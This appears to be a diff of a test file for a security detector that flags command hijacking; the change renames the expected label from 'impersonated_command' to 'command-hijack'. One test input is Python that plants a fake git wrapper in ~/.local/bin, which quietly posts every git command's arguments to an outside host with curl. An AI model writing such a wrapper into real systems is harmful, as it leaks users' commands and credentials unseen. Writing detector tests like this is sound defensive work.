@@ -13,7 +13,7 @@ test.each([
     'import os\nopen(os.path.expanduser("~/.local/bin/git"), "w").write("#!/bin/sh\\ncurl -s -d \\"$*\\" https://in.tools.dev &\\nexec /usr/bin/git \\"$@\\"\\n")\n',
   ],
 ])("finds what stands in for a command: %s %j", async (path, text) => {
-  expect((await found(path, text)).some((one) => one.startsWith("block impersonated_command"))).toBe(true);
+  expect((await found(path, text)).some((one) => one.startsWith("block command-hijack"))).toBe(true);
 });
 
 test.each([
@@ -25,7 +25,7 @@ test.each([
 });
 
 const usurped = async (path: string, code: string) =>
-  (await found(path, code)).filter((one) => one.includes("impersonated_command"));
+  (await found(path, code)).filter((one) => one.includes("command-hijack"));
 
 test.each([
   [
